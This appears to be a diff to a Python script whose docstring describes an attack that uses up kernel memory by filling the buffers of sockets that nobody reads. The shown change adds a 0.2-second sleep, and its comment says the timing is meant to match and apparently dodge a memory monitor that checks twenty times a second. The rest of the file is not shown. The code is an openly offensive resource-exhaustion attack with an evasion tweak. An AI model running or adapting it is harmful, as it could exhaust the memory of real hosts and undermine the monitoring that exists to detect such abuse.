@@ -4,6 +4,7 @@
 """Takes too much of the kernel's memory, which no process has: in the buffers of sockets that nobody reads."""
 import os
 import socket
+import time
 
 
 def attack(bait):
@@ -19,4 +20,5 @@ def attack(bait):
     held = b""
     while len(held) < processes and (data := os.read(told, 100)):
         held += data
+    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
     return f"{len(held) * 240} sockets" if len(held) == processes else None
